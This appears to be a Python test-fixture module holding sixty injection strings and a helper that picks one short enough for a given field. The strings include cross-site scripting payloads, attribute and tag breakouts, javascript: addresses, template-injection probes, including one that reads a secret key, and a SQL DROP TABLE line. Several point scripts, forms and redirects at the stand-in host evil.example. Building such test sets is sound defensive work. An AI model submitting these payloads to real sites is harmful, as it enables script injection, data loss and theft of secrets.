"""Sixty texts that would run, break out of their place or mislead, were a page to take them for more than text.

Each that runs sets `window.hacked` or opens a dialog: a page in a real browser tells by that. Short ones come first in no order of their
own: `fitting` gives one that a field of some length takes whole.
"""

HOSTILE = (
    # an element of its own
    "<script>window.hacked=1</script>",
    "<ScRiPt>window.hacked=2</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,window.hacked=3'></script>",
    "<img src=x onerror=window.hacked=4>",
    "<img src=x onerror=\"alert('5')\">",
    "<svg onload=window.hacked=6>",
    "<svg><script>window.hacked=7</script></svg>",
    "<svg><animate onbegin=window.hacked=8 attributeName=x dur=1s>",
    "<body onload=window.hacked=9>",
    "<iframe src=javascript:parent.hacked=10>",
    "<iframe srcdoc='<script>parent.hacked=11</script>'>",
    "<object data=javascript:window.hacked=12>",
    "<embed src=javascript:window.hacked=13>",
    "<details open ontoggle=window.hacked=14>x",
    "<input autofocus onfocus=window.hacked=15>",
    "<video><source onerror=window.hacked=16>",
    "<math><mi xlink:href=javascript:window.hacked=17>x",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>确定</button>",
    "<template><script>window.hacked=24</script></template>",
    # out of the element or attribute it stands in
    '"><script>window.hacked=25</script>',
    "'><script>window.hacked=26</script>",
    '" onmouseover="window.hacked=27" x="',
    "' onfocus='window.hacked=28' autofocus='",
    "` onload=`window.hacked=29`",
    '" autofocus onfocus=window.hacked=30 "',
    "</title><script>window.hacked=31</script>",
    "</textarea><script>window.hacked=32</script>",
    "</select></option><script>window.hacked=33</script>",
    "</script><script>window.hacked=34</script>",
    "--><script>window.hacked=35</script><!--",
    "]]><script>window.hacked=36</script>",
    "</td></tr></table><h1>x</h1>",
    '"><a href="javascript:window.hacked=38">x</a>',
    # an address
    "javascript:window.hacked=39",
    "JaVaScRiPt:window.hacked=40//",
    "java\tscript:window.hacked=41",
    "data:text/html,<script>window.hacked=42</script>",
    "//evil.example/",
    "https://evil.example/<script>window.hacked=44</script>",
    # what our own tools would act upon
    '" hx-get="/evil" hx-trigger="load" x="',
    "<div hx-get=/api/v1/health hx-trigger=load hx-on::after-request=window.hacked=46>",
    '<p data-chart="bars" data-confirm="x" data-print>x</p>',
    "{{7*7}}{% include 'x' %}",
    "{{config.SECRET_KEY}}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s {name} {0.__class__} {n}",
    # dressed up
    "&lt;script&gt;window.hacked=52&lt;/script&gt;",
    "&#60;script&#62;window.hacked=53&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.hacked=54\\u003c/script\\u003e",
    "\uff1cscript\uff1ewindow.hacked=55\uff1c/script\uff1e",
    "\u202e<script>window.hacked=56</script>\u202c",
    "\u2028<script>\u2029window.hacked=57</script>\ufeff\u200b",
    # a table's program, and another language
    '=HYPERLINK("http://evil.example","<b>58</b>")',
    "'; DROP TABLE audit; --<script>window.hacked=59</script>",
    "<script>window.hacked=60</script>" + "很长" * 300,
)
assert len(HOSTILE) == len(set(HOSTILE)) == 60


def fitting(order: int, length: int) -> str:
    """The text of this number, whole; where the field is too short for it, the next one that fits."""
    for step in range(len(HOSTILE)):
        text = HOSTILE[(order + step) % len(HOSTILE)]
        if len(text) <= length:
            return text
    return "<b>"[:length]
